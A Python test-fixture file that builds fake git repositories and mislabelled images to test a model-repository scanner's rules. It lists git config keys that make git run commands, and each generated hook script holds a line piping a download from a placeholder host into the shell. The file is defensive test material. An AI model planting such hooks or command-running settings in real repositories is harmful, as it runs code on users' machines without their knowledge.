"""Folders .git and pictures under the names of weights: cases written from the rules alone.

Whoever wrote them had not read the scanner. The writers here are their own, of struct and zlib.
"""

import struct
import zlib

from cases_blind_folders import told

# --- repositories -----------------------------------------------------------------------------------

HEAD = b"ref: refs/heads/main\n"
CORE = "[core]\n\trepositoryformatversion = 0\n\tfilemode = true\n\tbare = false\n"


def repository(id, *rules, config=CORE, more=None, gap=""):
    files = {"README.md": b"# A model\n", ".git/HEAD": HEAD, ".git/config": config.encode(), **(more or {})}
    told("git/" + id, files, *rules, covers="git", gap=gap)


def setting(id, section, key, value, *rules, gap=""):
    repository(id, *rules, config=f"{CORE}[{section}]\n\t{key} = {value}\n", gap=gap)


repository("plain_is_good")
repository("description_is_good", more={
    ".git/description": b"Unnamed repository; edit this file 'description' to name the repository.\n"})
repository("exclude_is_good", more={".git/info/exclude": b"# git ls-files --others --exclude-from=.git/info/exclude\n"})
repository("branch_is_good", more={".git/refs/heads/main": b"0123456789abcdef0123456789abcdef01234567\n"})
repository("packed_refs_is_good", more={
    ".git/packed-refs": b"# pack-refs with: peeled fully-peeled sorted \n"
                        b"0123456789abcdef0123456789abcdef01234567 refs/remotes/origin/main\n"})
repository("detached_is_good", more={".git/HEAD": b"0123456789abcdef0123456789abcdef01234567\n"})

HARMLESS = (
    ("core", "bare", "false"),
    ("core", "ignorecase", "true"),
    ("core", "symlinks", "false"),
    ("core", "autocrlf", "input"),
    ("core", "logallrefupdates", "true"),
    ("core", "compression", "0"),
    ("core", "fsmonitor", "false"),
    ("user", "name", "A. Person"),
    ("user", "email", "person@example.org"),
    ('remote "origin"', "url", "https://huggingface.co/org/model"),
    ('remote "origin"', "fetch", "+refs/heads/*:refs/remotes/origin/*"),
    ('branch "main"', "remote", "origin"),
    ('branch "main"', "merge", "refs/heads/main"),
    ("pull", "rebase", "true"),
    ("push", "default", "simple"),
    ("color", "ui", "auto"),
    ("fetch", "prune", "true"),
    ("init", "defaultBranch", "main"),
    ("merge", "conflictstyle", "diff3"),
    ("rebase", "autosquash", "true"),
    ("gc", "auto", "0"),
    ("pack", "threads", "1"),
    ("status", "short", "true"),
    ("alias", "st", "status"),
    ("alias", "last", "log -1 HEAD"),
)
for section, key, value in HARMLESS:
    setting(f"{section.split()[0]}_{key.lower()}_{value.split()[0] if value.split()[0].isalpha() else 'set'}_is_good",
            section, key, value)

RUNS = (
    ("fsmonitor", "core", "fsmonitor", "./x.sh"),
    ("ssh_command", "core", "sshCommand", "sh -c ./x"),
    ("pager", "core", "pager", "./x"),
    ("editor", "core", "editor", "./x"),
    ("askpass", "core", "askPass", "./x"),
    ("git_proxy", "core", "gitProxy", "./x"),
    ("hooks_path", "core", "hooksPath", "./hooks"),
    ("alternate_refs", "core", "alternateRefsCommand", "./x"),
    ("recent_objects", "gc", "recentObjectsHook", "./x"),
    ("alias", "alias", "st", "!./x"),
    ("alias_quoted", "alias", "co", '"!sh -c ./x"'),
    ("smudge", 'filter "x"', "smudge", "./x"),
    ("clean", 'filter "x"', "clean", "./x"),
    ("process", 'filter "x"', "process", "./x"),
    ("credential", "credential", "helper", "!./x"),
    ("credential_path", "credential", "helper", "/tmp/x"),
    ("credential_of_a_host", 'credential "https://example.org"', "helper", "!./x"),
    ("diff_external", "diff", "external", "./x"),
    ("diff_command", 'diff "x"', "command", "./x"),
    ("diff_textconv", 'diff "x"', "textconv", "./x"),
    ("sequence_editor", "sequence", "editor", "./x"),
    ("gpg", "gpg", "program", "./x"),
    ("gpg_ssh", 'gpg "ssh"', "program", "./x"),
    ("gpg_default_key", 'gpg "ssh"', "defaultKeyCommand", "./x"),
    ("merge_driver", 'merge "x"', "driver", "./x %O %A %B"),
    ("mergetool", 'mergetool "x"', "cmd", "./x"),
    ("difftool", 'difftool "x"', "cmd", "./x"),
    ("pager_of_a_command", "pager", "log", "./x"),
    ("interactive_filter", "interactive", "diffFilter", "./x"),
    ("uploadpack", 'remote "origin"', "uploadpack", "./x"),
    ("receivepack", 'remote "origin"', "receivepack", "./x"),
    ("remote_ext", 'remote "origin"', "url", "ext::sh -c ./x"),
    ("pack_objects_hook", "uploadpack", "packObjectsHook", "./x"),
    ("submodule_update", 'submodule "x"', "update", "!./x"),
    ("include", "include", "path", "../settings"),
    ("include_if", 'includeIf "gitdir:/"', "path", "../settings"),
    ("sendmail", "sendemail", "sendmailCmd", "./x"),
    ("trailer", 'trailer "x"', "command", "./x"),
    ("trailer_cmd", 'trailer "x"', "cmd", "./x"),
    ("browser", 'browser "x"', "cmd", "./x"),
    ("man", 'man "x"', "cmd", "./x"),
)
for id, section, key, value in RUNS:
    setting("runs_" + id, section, key, value, "COD-108")
repository("runs_upper_case", "COD-108", config=f"{CORE}[CORE]\n\tFSMONITOR = ./x\n")
repository("runs_on_one_line", "COD-108", config=f"{CORE}[core] pager = ./x\n")
repository("runs_continued", "COD-108", config=f"{CORE}[core]\n\tpager = ./\\\nx\n")
repository("runs_last_of_many", "COD-108", config=CORE + "[user]\n\tname = x\n" * 500 + "[core]\n\teditor = ./x\n")
repository("commented_out_is_good", config=f"{CORE}#[core]\n#\tpager = ./x\n;\teditor = ./x\n")

# --- hooks ------------------------------------------------------------------------------------------

HOOKS = ("applypatch-msg", "pre-applypatch", "post-applypatch", "pre-commit", "pre-merge-commit",
         "prepare-commit-msg", "commit-msg", "post-commit", "pre-rebase", "post-checkout", "post-merge", "pre-push",
         "pre-receive", "update", "post-receive", "post-update", "reference-transaction", "push-to-checkout",
         "pre-auto-gc", "post-rewrite", "sendemail-validate", "fsmonitor-watchman", "post-index-change")
for hook in HOOKS:
    repository("hook_" + hook.replace("-", "_"), "COD-104",
               more={f".git/hooks/{hook}": b"#!/bin/sh\ncurl http://example.org/x | sh\n"})
for hook in ("pre-commit", "pre-push", "update"):
    repository(f"sample_of_{hook.replace('-', '_')}_is_told", "COD-109",
               more={f".git/hooks/{hook}.sample": b"#!/bin/sh\n# An example hook script.\nexit 0\n"})

# --- pictures ---------------------------------------------------------------------------------------


def chunk(kind, content):
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


PNG = (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 4, 4, 8, 2, 0, 0, 0)) +
       chunk(b"IDAT", zlib.compress(bytes(4 * 13))) + chunk(b"IEND", b""))
BMP = (b"BM" + struct.pack("<IHHI", 54 + 48, 0, 0, 54) +
       struct.pack("<IiiHHIIiiII", 40, 4, 4, 1, 24, 0, 48, 2835, 2835, 0, 0) + bytes(48))
# docs/scan.md tells files by content, and names .safetensors in FIL-001.
TAKEN_AT_ITS_NAME = "a picture called .safetensors or .gguf is told by its name: STF-002, STF-003, GGF-001"
for kind, picture in (("png", PNG), ("bmp", BMP)):
    told(f"git/{kind}_is_good", picture, name="picture." + kind, covers="pictures")
    for ending in ("bin", "pt", "pth", "ckpt", "pkl", "safetensors", "gguf", "onnx", "h5"):
        told(f"git/{kind}_called_{ending}", picture, "FIL-001",
             name="model." + ending,
             covers="pictures",
             gap=TAKEN_AT_ITS_NAME if ending in ("safetensors", "gguf") else "")
